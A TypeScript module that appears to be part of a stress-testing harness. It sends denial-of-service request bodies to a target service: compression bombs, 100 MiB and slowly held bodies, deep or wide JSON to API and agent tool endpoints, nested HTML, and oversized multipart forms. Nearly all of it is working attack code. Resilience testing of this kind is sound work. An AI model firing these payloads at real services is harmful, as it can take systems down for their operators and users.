/** Attacks by request bodies: bombs, floods, and shapes that are expensive to parse. */
import { randomUUID } from 'node:crypto';
import type { ClientRequest } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import { brotliCompressSync, constants, gzipSync } from 'node:zlib';
import { type Attack, loops, type Target } from './attack.ts';
import { callTool, faces, saveItem, send, sessionOf, signIn } from './requests.ts';

const MIB = 1024 * 1024;
const zeros = (mib: number) => Buffer.alloc(mib * MIB, 0x61);
/** 300 MiB as a few hundred KiB. */
const bomb = () => gzipSync(zeros(300), { level: 9 });
const brotliBomb = () => brotliCompressSync(zeros(300), { params: { [constants.BROTLI_PARAM_QUALITY]: 4 } });

/** 100 MiB in pieces, as fast as the server reads them. */
function sendHundredMegabytes(sending: ClientRequest, opening = ''): void {
  sending.write(opening);
  const piece = Buffer.alloc(64 * 1024, 0x20);
  let left = 1_600;
  const push = () => {
    while (left-- > 0) if (!sending.write(piece)) return void sending.once('drain', push);
    sending.end();
  };
  sending.on('error', () => {});
  push();
}

const upload = { path: '/sign-in', headers: { 'Content-Type': 'multipart/form-data; boundary=x' } };
const uploadOpening = '--x\r\nContent-Disposition: form-data; name="f"; filename="f"\r\nContent-Type: application/octet-stream\r\n\r\n';

const MOST_TURN_MS = 50;
const MULTIPART = 'multipart/form-data; boundary=x';
/** A form of the attacker's session. */
const formTo = (target: Target, type: string) => ({ path: '/my/notes/new', headers: { ...sessionOf(target), 'Content-Type': type } });
const partHeader = (text: string) => `--x\r\nContent-Disposition: form-data; name="a"; ${text}`;

/** Personal notes with nested or misnested elements, 128 KiB long. */
const nested = [
  '<b>'.repeat(40_000),
  '<p><b>'.repeat(20_000),
  '<a href="http://a.example"><b>'.repeat(4_000),
  '<table><tr><td>'.repeat(8_000),
  '<blockquote><ul><li>'.repeat(6_000),
  '<b><i><u><s><p>'.repeat(8_000),
  `<p>${'&amp;'.repeat(25_000)}</p>`,
  '<table><b>x'.repeat(11_000),
  '</p>'.repeat(32_000),
];

export const byBodies: Record<string, Attack> = {
  bombs: {
    ...{ title: '300 MiB as gzip and brotli, to the API, the agents and the sign-in', seconds: 12 },
    run: (target, signal, tally) => {
      const compressed = [['gzip', bomb()] as const, ['br', brotliBomb()] as const];
      return loops(6, signal, (n) => {
        const [encoding, body] = compressed[n % 2]!;
        const { path, headers } = faces(target)[n % 3]!;
        return send(target, { path, headers: { ...headers, 'Content-Encoding': encoding }, body }, tally);
      });
    },
  },
  hugeBodies: {
    ...{ title: '100 MiB bodies: with a length, in chunks without one, as an attachment to the sign-in', seconds: 8 },
    run: (target, signal, tally) => {
      const feed = (sending: ClientRequest) => sendHundredMegabytes(sending);
      const bodies = [
        ...faces(target).map(({ path, headers }) => ({ path, headers: { ...headers, 'Content-Length': String(100 * MIB) }, feed })),
        ...faces(target).map((face) => ({ ...face, feed })),
        { ...upload, feed: (sending: ClientRequest) => sendHundredMegabytes(sending, uploadOpening) },
      ];
      return loops(bodies.length, signal, (n) => send(target, bodies[n]!, tally));
    },
  },
  wideJson: {
    ...{ title: 'JSON as deep and with as many values as its size allows, to the API and a tool', seconds: 12 },
    run: (target, signal, tally) => {
      const keys = (count: number) => `{${Array.from({ length: count }, (_, n) => `"k${n}":0`).join()}}`;
      const records = ['['.repeat(MIB - 1), `[${'[],'.repeat(340_000)}[]]`, keys(80_000), `"${'\\u0061'.repeat(170_000)}"`];
      const items = `[${'{"type":"task","title":""},'.repeat(300_000)}{}]`;
      const bodies = [
        ...records.map((body) => ({ ...saveItem(target), body })),
        callTool(target, 'svc_create_items', `{"requestId":"${randomUUID()}","workspaceId":1,"items":${items}}`),
        callTool(target, 'svc_context', keys(600_000)),
        callTool(target, 'svc_context', `{"x":[${'[],'.repeat(2_700_000)}[]]}`),
        callTool(target, 'svc_add_note', { requestId: randomUUID(), id: 1, body: 'a'.repeat(8_000_000) }),
      ];
      return loops(2, signal, async (n) => {
        for (let at = n; at < bodies.length; at += 2) await send(target, bodies[at]!, tally);
      });
    },
  },
  nestedHtml: {
    ...{ title: 'Personal notes of nested and misnested HTML, 128 KiB each', seconds: 8 },
    run: (target, signal, tally) => {
      let turn = 0;
      return loops(4, signal, () => {
        const html = nested[turn++ % nested.length]!.slice(0, 131_000);
        return send(target, callTool(target, 'svc_personal_notes_create', { requestId: randomUUID(), html }), tally);
      });
    },
  },
  partHeaders: {
    ...{ title: 'Multipart forms with a header of 256 KB in a part, or with 1,500 headers of 4 KB', seconds: 10, mostTurnMs: MOST_TURN_MS },
    run: (target, signal, tally) => {
      const end = 'x\r\n\r\n1\r\n--x--\r\n';
      const bodies = [
        partHeader('filename="'.repeat(26_000)) + end,
        partHeader(`${'a;'.repeat(1_900)}x\r\n\r\n1\r\n`).repeat(1_500) + partHeader(end),
      ];
      return loops(4, signal, (n) => send(target, { ...formTo(target, MULTIPART), body: bodies[n % 2]! }, tally));
    },
  },
  manyFields: {
    ...{ title: 'Forms of 1 MB with half a million empty fields, or with 9,999 encoded ones', seconds: 10, mostTurnMs: MOST_TURN_MS },
    run: (target, signal, tally) => {
      const bodies = ['a&'.repeat(520_000), '%&'.repeat(520_000), `a=${'%fe'.repeat(33)}&`.repeat(9_999)];
      const { 'Content-Type': type } = signIn.headers;
      return loops(3, signal, (n) => send(target, { ...formTo(target, type), body: bodies[n]! }, tally));
    },
  },
  heldForms: {
    ...{ title: '300 forms of 1 MiB and 300 sign-ins of 64 KiB without their last byte, and headers of parts without an end', seconds: 20 },
    run: (target, signal, tally) => {
      const { 'Content-Type': type } = signIn.headers;
      const kept = (length: number) => ({ length, feed: (sending: ClientRequest) => void sending.write(Buffer.alloc(length - 1, 0x61)) });
      const without = ({ length, feed }: ReturnType<typeof kept>, { path, headers }: ReturnType<typeof formTo>) => ({
        ...{ path, feed },
        headers: { ...headers, 'Content-Length': String(length) },
      });
      const [long, short] = [kept(MIB), kept(64 * 1024)];
      const kinds = [
        () => without(long, formTo(target, type)),
        () => without(short, { path: signIn.path, headers: { ...sessionOf(target), 'Content-Type': type } }),
      ];
      const endless = { ...formTo(target, MULTIPART), feed: (sending: ClientRequest) => sendHundredMegabytes(sending, partHeader('')) };
      return loops(604, signal, async (n) => {
        await send(target, n < 4 ? endless : kinds[n % 2]!(), tally);
        // Longer than the attack: bodies that are refused and discarded would measure the network.
        await sleep(30_000, null, { signal }).catch(() => {});
      });
    },
  },
};
